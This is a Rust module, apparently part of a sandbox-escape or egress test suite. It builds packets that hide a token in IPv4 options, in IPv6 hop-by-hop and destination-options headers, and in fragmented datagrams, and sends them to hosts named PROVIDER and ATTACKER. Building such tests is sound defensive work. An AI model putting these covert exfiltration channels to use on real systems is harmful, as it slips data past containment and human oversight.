//! Packets of unusual shape: IPv4 options, IPv6 extension headers, fragments.

use super::call::{at, connect, family, inet, open, send, send_to, set};
use super::{Aim, Failure, INET, Layer, Technique};
use crate::sys::attempt::message::{control, sendmsg_with};
use crate::verify::ground::{ATTACKER, ATTACKER_V6, PROVIDER, PROVIDER_PORT, PROVIDER_V6};
use std::net::IpAddr;

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("record-route", "IPv4 option: record route, TCP", "9", INET, |a| {
        // RFC 791: type 7, room for one address, then end of list.
        optioned(a, PROVIDER, libc::IPPROTO_IP, libc::IP_OPTIONS, &[7, 7, 4, 0, 0, 0, 0, 0])
    }),
    Technique::wire("ip-timestamp", "IPv4 option: timestamps, TCP", "9", INET, |a| {
        optioned(a, PROVIDER, libc::IPPROTO_IP, libc::IP_OPTIONS, &[68, 8, 5, 0, 0, 0, 0, 0])
    }),
    Technique::wire("options-message", "IPv4 option in a control message", "9", INET, |a| {
        let options = control(libc::IPPROTO_IP, libc::IP_RETOPTS, &[7, 7, 4, 0, 0, 0, 0, 0]);
        messaged(a, PROVIDER, &options)
    }),
    Technique::wire("hop-by-hop", "IPv6 hop-by-hop options, TCP", "10", INET, |a| {
        optioned(a, PROVIDER_V6, libc::IPPROTO_IPV6, libc::IPV6_HOPOPTS, &options(a))
    }),
    Technique::wire("destination-options", "IPv6 destination options, TCP", "10", INET, |a| {
        optioned(a, PROVIDER_V6, libc::IPPROTO_IPV6, libc::IPV6_DSTOPTS, &options(a))
    }),
    Technique::wire("sticky-options", "options by IPV6_2292PKTOPTIONS, TCP", "8 10", INET, |a| {
        let message = control(libc::IPPROTO_IPV6, libc::IPV6_DSTOPTS, &options(a));
        optioned(a, PROVIDER_V6, libc::IPPROTO_IPV6, libc::IPV6_2292PKTOPTIONS, &message)
    }),
    Technique::wire("hop-by-hop-message", "IPv6 hop-by-hop, control message", "10", RIGHT, |a| {
        let message = control(libc::IPPROTO_IPV6, libc::IPV6_HOPOPTS, &options(a));
        messaged(a, PROVIDER_V6, &message)
    }),
    Technique::wire("destination-message", "IPv6 options, control message", "10", RIGHT, |a| {
        let message = control(libc::IPPROTO_IPV6, libc::IPV6_DSTOPTS, &options(a));
        messaged(a, PROVIDER_V6, &message)
    }),
    Technique::wire("fragments4", "a datagram in fragments, IPv4", "10", INET, |a| {
        fragments(a, ATTACKER)
    }),
    Technique::wire("fragments6", "a datagram in fragments, IPv6", "10", INET, |a| {
        fragments(a, ATTACKER_V6)
    }),
];

/// TCP to the provider with an option set; what counts is the shape of its packets.
fn optioned(aim: &Aim, ip: IpAddr, level: i32, name: i32, value: &[u8]) -> Result<(), Failure> {
    let fd = open(family(ip), libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    set(&fd, level, name, value)?;
    connect(aim, &fd, ip, PROVIDER_PORT)?;
    send(aim, &fd)
}

/// A datagram to the provider with a control message.
fn messaged(aim: &Aim, ip: IpAddr, control: &[u8]) -> Result<(), Failure> {
    let fd = open(family(ip), libc::SOCK_DGRAM, 0)?;
    let address = inet(ip, PROVIDER_PORT);
    sendmsg_with(&fd, aim.token.as_bytes(), Some(&address), control).map_err(at("sendmsg"))
}

fn fragments(aim: &Aim, ip: IpAddr) -> Result<(), Failure> {
    let fd = open(family(ip), libc::SOCK_DGRAM, 0)?;
    send_to(&fd, &aim.token.as_bytes().repeat(300), 0, ip, 443)
}

/// An options header (RFC 8200) with one unknown option, to be skipped, that holds the token.
fn options(aim: &Aim) -> Vec<u8> {
    let token = aim.token.as_bytes();
    let len = (2 + 2 + token.len()).next_multiple_of(8);
    let mut header = vec![0, (len / 8 - 1) as u8, 0x1e, (len - 4) as u8];
    header.extend(token);
    header.resize(len, 0);
    header
}

/// Unlike the socket options, these messages take a right.
const RIGHT: &[Layer] = &[Layer::Seccomp, Layer::Cgroup, Layer::Landlock, Layer::Capability];
